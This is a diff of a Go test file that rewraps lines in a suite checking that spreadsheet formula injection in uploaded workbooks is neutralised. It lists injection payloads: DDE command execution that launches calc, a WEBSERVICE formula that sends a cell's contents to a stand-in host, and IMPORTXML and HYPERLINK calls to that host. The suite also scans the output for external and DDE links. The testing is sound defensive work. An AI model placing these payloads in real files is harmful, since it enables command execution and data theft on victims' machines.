@@ -19,8 +19,10 @@ import (
 
 // lures are texts that a spreadsheet, or a CSV read by one, would carry out. Each goes into every field of text.
 func lures() []string {
-	return []string{`=1+1`, `+1+1`, `-1+1`, `@SUM(A1)`, "\t=1+1", `=HYPERLINK("http://example.invalid","点击")`, `=cmd|'/c calc'!A0`, `=DDE("cmd","/c calc","1")`,
-		`=WEBSERVICE("http://example.invalid/"&A1)`, `＝1+1`, `＋1`, `－1`, `＠SUM(A1)`, `'=1+1`, `"=1+1"`, `=IMPORTXML("http://example.invalid","//a")`}
+	return []string{`=1+1`, `+1+1`, `-1+1`, `@SUM(A1)`, "\t=1+1", `=HYPERLINK("http://example.invalid","点击")`,
+		`=cmd|'/c calc'!A0`, `=DDE("cmd","/c calc","1")`,
+		`=WEBSERVICE("http://example.invalid/"&A1)`, `＝1+1`, `＋1`, `－1`, `＠SUM(A1)`, `'=1+1`, `"=1+1"`,
+		`=IMPORTXML("http://example.invalid","//a")`}
 }
 
 // baited is a city of one class whose every field of text is a lure, played through every kind of workbook.
@@ -37,8 +39,10 @@ func baited(t *testing.T) (*town.Town, []string) {
 	}
 	k.Payer = map[int]string{0: "个人", 1: "个人"}
 	reg := append(town.Registers(2025, []town.School{s}, town.Given("150104", town.Jobs, "100000", lure())),
-		town.Sheet{Name: "平台反馈", Rows: [][]any{{"年度", "反馈方", "名称", "评分", "意见"}, {2025, "机构", lure(), 5, lure()}}},
-		town.Sheet{Name: "平台比选", Rows: [][]any{{"供应商名称", "评审项", "分值", "得分", "评委"}, {"=示甲", lure(), 60, 50, lure()},
+		town.Sheet{Name: "平台反馈", Rows: [][]any{{"年度", "反馈方", "名称", "评分", "意见"},
+			{2025, "机构", lure(), 5, lure()}}},
+		town.Sheet{Name: "平台比选", Rows: [][]any{{"供应商名称", "评审项", "分值", "得分", "评委"},
+			{"=示甲", lure(), 60, 50, lure()},
 			{"@示乙", lure(), 60, 40, lure()}}},
 		town.Sheet{Name: "履职记录", Rows: [][]any{{"事项", "日期", "说明"}, {"讲师能力提升培训", "2025-01-05", lure()},
 			{lure(), "2025-01-06", lure()}}})
@@ -81,7 +85,8 @@ func bait(w *town.Town, k *town.Class, lure func() string) {
 		[4]string{entries[1], "退票", "", lure()}))
 	w.Night("2025-02-12")
 	one := town.Shop{Class: k, N: 0, Certificate: w.Certificates(k.Number)[0]["证书编号"],
-		Code: town.Credit("92990101MJ" + k.People[0].Phone[4:]), Founded: "2025-02-10", State: "存续", Day: "2025-08-10",
+		Code: town.Credit("92990101MJ" + k.People[0].Phone[4:]), Founded: "2025-02-10", State: "存续",
+		Day:   "2025-08-10",
 		Asked: "480"}
 	more := town.Uplift(one)
 	more[0].Rows[1][3], more[0].Rows[1][9] = lure(), lure()
@@ -93,8 +98,9 @@ func bait(w *town.Town, k *town.Class, lure func() string) {
 	w.Drop("旗县区/150104/-意见.xlsx", decision)
 	w.DropBytes(town.Academy(k.School)+"/=公式.xlsx", calculated(w, k))
 	w.Night("2025-08-12")
-	for file, want := range map[string]string{town.Academy(k.School) + "/@SUM(A1).xlsx": "受理", town.Academy(k.School) +
-		"/-1.xlsx": "受理", "旗县区/150104/+拨付.xlsx": "受理", "旗县区/150104/-意见.xlsx": "受理"} {
+	for file, want := range map[string]string{town.Academy(k.School) + "/@SUM(A1).xlsx": "受理",
+		town.Academy(k.School) +
+			"/-1.xlsx": "受理", "旗县区/150104/+拨付.xlsx": "受理", "旗县区/150104/-意见.xlsx": "受理"} {
 		if r := w.Receipt(file); r.Result() != want {
 			w.Errorf("%s: %s %v", file, r.Result(), r.Findings)
 		}
@@ -114,7 +120,8 @@ func calculated(w *town.Town, k *town.Class) []byte {
 	_ = f.SetCellStr("学员名单", "E2", "算出来的")
 	_ = f.SetCellFormula("学员名单", "E2", `=HYPERLINK("http://example.invalid","点击")`)
 	_ = f.SetCellHyperLink("学员名单", "A2", "http://example.invalid", "External")
-	_ = f.SetDefinedName(&excelize.DefinedName{Name: "_xlnm.Print_Area", RefersTo: "学员名单!$A$1:$B$2", Scope: "学员名单"})
+	_ = f.SetDefinedName(&excelize.DefinedName{Name: "_xlnm.Print_Area", RefersTo: "学员名单!$A$1:$B$2",
+		Scope: "学员名单"})
 	_ = f.AddComment("学员名单", excelize.Comment{Cell: "A2", Text: "=1+1"})
 	text, err := f.WriteToBuffer()
 	if err != nil {
@@ -135,13 +142,15 @@ func TestNothingThatComesInIsCarriedOut(t *testing.T) {
 		marked); err != nil {
 		t.Fatal(err)
 	}
-	texts, seen, formula := regexp.MustCompile(`(?s)<(?:\w+:)?t(?: [^>]*)?>.*?</(?:\w+:)?t>`), 0, regexp.MustCompile(`<(?:\w+:)?f[ >/]`)
+	texts, seen, formula := regexp.MustCompile(`(?s)<(?:\w+:)?t(?: [^>]*)?>.*?</(?:\w+:)?t>`), 0,
+		regexp.MustCompile(`<(?:\w+:)?f[ >/]`)
 	for file, parts := range w.Unzipped() {
 		for part, text := range parts {
 			if strings.HasPrefix(part, "xl/worksheets/") && formula.MatchString(text) {
 				t.Errorf("%s %s holds a formula", file, part)
 			}
-			if strings.Contains(part, "externalLink") || strings.Contains(text, `TargetMode="External"`) || strings.Contains(text, "ddeLink") {
+			if strings.Contains(part, "externalLink") || strings.Contains(text, `TargetMode="External"`) ||
+				strings.Contains(text, "ddeLink") {
 				t.Errorf("%s %s points outside", file, part)
 			}
 			rest := html.UnescapeString(texts.ReplaceAllString(text, ""))
